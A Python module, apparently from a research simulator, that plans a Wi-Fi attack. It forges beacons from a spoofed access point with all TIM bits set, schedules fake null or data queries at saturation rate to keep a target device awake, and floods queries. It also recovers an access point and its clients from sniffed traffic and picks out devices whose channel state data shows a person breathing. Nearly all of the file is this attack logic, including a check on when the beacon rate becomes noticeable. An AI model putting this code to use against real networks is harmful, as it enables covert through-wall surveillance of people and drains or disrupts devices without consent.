import logging
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Tuple, Union

from csi import CsiTrace
from frames import (
    BROADCAST_MAC,
    DEFAULT_TIM_BITS,
    QUERY_KINDS,
    Frame,
    FrameKind,
    PhyTiming,
    all_set_tim,
    encode_tim,
    normalize_mac,
)
from medium import exchange_cycle_us
from sensing import PipelineConfig, presence_score

logger = logging.getLogger(__name__)

DEFAULT_ATTACKER_MAC = "aa:bb:bb:bb:bb:bb"
DEFAULT_KEEP_AWAKE_PERIOD_US = 200_000.0


class DiscoveryError(ValueError):
    """Raised when sniffed traffic is not enough to find an AP and its clients."""


@dataclass(frozen=True)
class AttackConfig:
    target: str
    query_kind: FrameKind = FrameKind.NULL
    query_bitrate: float = 1.0
    query_rate: Union[float, str] = "saturate"
    beacon_period_us: float = DEFAULT_KEEP_AWAKE_PERIOD_US
    beacon_delivery: str = "unicast"
    spoofed_ap_mac: str = "02:00:00:00:00:01"
    spoofed_ssid: str = "HomeNet"
    target_aid: Optional[int] = None
    attacker_mac: str = DEFAULT_ATTACKER_MAC
    payload_bytes: int = 0
    beacon_bitrate: float = 1.0
    beacon_offset_us: float = 0.0
    tim_bits: int = DEFAULT_TIM_BITS

    def __post_init__(self):
        if self.query_kind not in QUERY_KINDS:
            raise ValueError(
                f"query_kind must be one of {sorted(k.value for k in QUERY_KINDS)}, got {self.query_kind.value}"
            )
        if self.beacon_period_us < 0:
            raise ValueError(f"beacon_period_us must be >= 0, got {self.beacon_period_us}")
        if self.beacon_delivery not in ("unicast", "broadcast"):
            raise ValueError(f"beacon_delivery must be unicast or broadcast, got {self.beacon_delivery}")
        if isinstance(self.query_rate, str):
            if self.query_rate != "saturate":
                raise ValueError(f"query_rate must be a number or 'saturate', got {self.query_rate}")
        elif self.query_rate < 0:
            raise ValueError(f"query_rate must be >= 0, got {self.query_rate}")
        if self.query_bitrate <= 0:
            raise ValueError(f"query_bitrate must be positive, got {self.query_bitrate}")
        if self.query_kind is not FrameKind.DATA and self.payload_bytes:
            raise ValueError("payload_bytes only applies to data queries")
        for mac in (self.target, self.spoofed_ap_mac, self.attacker_mac):
            normalize_mac(mac)

    @property
    def spoofed_ap(self) -> Tuple[str, str]:
        return self.spoofed_ap_mac, self.spoofed_ssid

    @property
    def label(self) -> str:
        return f"{self.query_kind.value.upper()}/{self.query_bitrate:g}"

    def query_rate_per_s(self, phy: PhyTiming) -> float:
        """Configured rate, or the saturation rate when asked to saturate"""
        saturation = 1e6 / exchange_cycle_us(self.query_kind, self.query_bitrate, phy, self.payload_bytes)
        if self.query_rate == "saturate":
            return saturation
        return min(float(self.query_rate), saturation)


@dataclass(frozen=True)
class ScheduledFrame:
    t_us: float
    frame: Frame


@dataclass(frozen=True)
class Schedule:
    entries: Tuple[ScheduledFrame, ...]
    duration_us: float
    packets_per_s: float = 0.0
    beacon_rate_per_s: float = 0.0
    warnings: Tuple[str, ...] = ()

    def __len__(self) -> int:
        return len(self.entries)

    def frames_of(self, kind: FrameKind) -> List[ScheduledFrame]:
        return [e for e in self.entries if e.frame.kind is kind]


@dataclass(frozen=True)
class DiscoveryResult:
    ap_mac: str
    ssid: str
    clients: Tuple[Tuple[str, Optional[int]], ...] = field(default_factory=tuple)

    def aid_of(self, mac: str) -> Optional[int]:
        for client, aid in self.clients:
            if client == mac.lower():
                return aid
        return None


def _query_frame(config: AttackConfig, dst: str) -> Frame:
    return Frame(config.query_kind, src=config.attacker_mac, dst=dst,
                 bitrate=config.query_bitrate, payload_bytes=config.payload_bytes)


def _forged_beacon(config: AttackConfig) -> Frame:
    if config.target_aid is not None:
        tim = encode_tim({config.target_aid}, config.tim_bits)
    else:
        tim = all_set_tim(config.tim_bits)
    dst = config.target if config.beacon_delivery == "unicast" else BROADCAST_MAC
    return Frame(FrameKind.BEACON, src=config.spoofed_ap_mac, dst=dst,
                 bitrate=config.beacon_bitrate, tim=tim, ssid=config.spoofed_ssid)


def _periodic(start_us: float, period_us: float, duration_us: float) -> List[float]:
    times = []
    k = 0
    while True:
        t = start_us + k * period_us
        if t >= duration_us:
            return times
        times.append(t)
        k += 1


def probe_beacon(spoofed_mac: str, ssid: str, bitrate: float = 1.0,
                 tim_bits: int = DEFAULT_TIM_BITS) -> Frame:
    """Forged broadcast beacon with every TIM bit set, wakes all clients at once"""
    return Frame(FrameKind.BEACON, src=spoofed_mac, dst=BROADCAST_MAC,
                 bitrate=bitrate, tim=all_set_tim(tim_bits), ssid=ssid)


def discover_targets(sniffed: Iterable[Frame], own_macs: Sequence[str] = ()) -> DiscoveryResult:
    """Recover the AP and its clients from captured traffic.

    The AP comes from the first beacon that is not ours. Clients are harvested
    from NullFunction replies (after a probe beacon) and from any data frame
    they send to the AP.
    """
    own = {m.lower() for m in own_macs}
    frames = list(sniffed)
    beacons = [f for f in frames if f.kind is FrameKind.BEACON and f.src.lower() not in own]
    if not beacons:
        raise DiscoveryError("Discovery failed: no beacon observed")
    ap_mac = beacons[0].src.lower()
    ssid = beacons[0].ssid or ""

    clients: Dict[str, Optional[int]] = {}
    for frame in frames:
        src = frame.src.lower()
        if src in own or src == ap_mac or frame.kind is FrameKind.BEACON:
            continue
        if frame.kind is FrameKind.NULL_FUNCTION:
            if frame.aid is not None or src not in clients:
                clients[src] = frame.aid
        elif frame.kind in (FrameKind.NULL, FrameKind.DATA) and frame.dst.lower() == ap_mac:
            clients.setdefault(src, None)

    taken: Dict[int, str] = {}
    for mac in sorted(clients):
        aid = clients[mac]
        if aid is None:
            continue
        if aid in taken:
            logger.warning(f"⚠️ aid {aid} claimed by {taken[aid]} and {mac}, dropping it for {mac}")
            clients[mac] = None
        else:
            taken[aid] = mac

    result = DiscoveryResult(ap_mac, ssid, tuple((mac, clients[mac]) for mac in sorted(clients)))
    logger.info(f"✅ Discovered AP {ap_mac} ('{ssid}') with {len(result.clients)} clients")
    return result


def plan_keep_awake(config: AttackConfig, duration_us: float = 1e6, phy: PhyTiming = PhyTiming(),
                    suspicion_threshold_per_s: float = 20.0) -> Schedule:
    """Fake queries at the configured rate interleaved with forged unicast beacons"""
    entries: List[Tuple[float, int, Frame]] = []
    rate = config.query_rate_per_s(phy)
    if rate > 0:
        query = _query_frame(config, config.target)
        for t in _periodic(0.0, 1e6 / rate, duration_us):
            entries.append((t, 1, query))

    warnings: List[str] = []
    beacon_rate = 0.0
    if config.beacon_period_us > 0:
        beacon = _forged_beacon(config)
        for t in _periodic(config.beacon_offset_us, config.beacon_period_us, duration_us):
            entries.append((t, 0, beacon))
        beacon_rate = 1e6 / config.beacon_period_us
        if beacon_rate > suspicion_threshold_per_s:
            message = (
                f"Beacon rate {beacon_rate:g}/s exceeds the suspicion threshold "
                f"{suspicion_threshold_per_s:g}/s; the target will disconnect from {config.spoofed_ap_mac}"
            )
            logger.warning(f"⚠️ {message}")
            warnings.append(message)

    entries.sort(key=lambda e: (e[0], e[1]))
    return Schedule(
        entries=tuple(ScheduledFrame(t, f) for t, _, f in entries),
        duration_us=duration_us,
        packets_per_s=rate,
        beacon_rate_per_s=beacon_rate,
        warnings=tuple(warnings),
    )


def plan_query_flood(query_kind: FrameKind, bitrate: float, phy: PhyTiming = PhyTiming(),
                     target: str = BROADCAST_MAC, src: str = DEFAULT_ATTACKER_MAC,
                     duration_us: float = 1e6, payload_bytes: int = 0) -> Tuple[Schedule, float]:
    cycle = exchange_cycle_us(query_kind, bitrate, phy, payload_bytes)
    pps = 1e6 / cycle
    query = Frame(query_kind, src=src, dst=target, bitrate=bitrate, payload_bytes=payload_bytes)
    schedule = Schedule(
        entries=tuple(ScheduledFrame(t, query) for t in _periodic(0.0, cycle, duration_us)),
        duration_us=duration_us,
        packets_per_s=pps,
    )
    logger.debug(f"Query flood {query_kind.value}@{bitrate:g} Mbps: {pps:.1f} queries/s")
    return schedule, pps


def round_robin_schedule(config: AttackConfig, targets: Sequence[str], duration_us: float = 1e6,
                         phy: PhyTiming = PhyTiming()) -> Schedule:
    """Spread the query stream over several devices so each CSI stream is tagged by MAC"""
    if not targets:
        raise ValueError("round_robin_schedule needs at least one target")
    rate = config.query_rate_per_s(phy)
    entries = []
    if rate > 0:
        for i, t in enumerate(_periodic(0.0, 1e6 / rate, duration_us)):
            entries.append(ScheduledFrame(t, _query_frame(config, targets[i % len(targets)])))
    return Schedule(entries=tuple(entries), duration_us=duration_us, packets_per_s=rate)


def select_sensing_targets(traces: Dict[str, CsiTrace], config: Optional[PipelineConfig] = None,
                           min_share: float = 0.5) -> List[Tuple[str, float]]:
    """MACs whose CSI shows a breathing peak, strongest vote share first"""
    config = config or PipelineConfig()
    scored = []
    for mac, trace in traces.items():
        share = presence_score(trace, config)
        logger.debug(f"{mac}: breathing vote share {share:.3f}")
        if share >= min_share:
            scored.append((mac.lower(), share))
    scored.sort(key=lambda item: (-item[1], item[0]))
    return scored
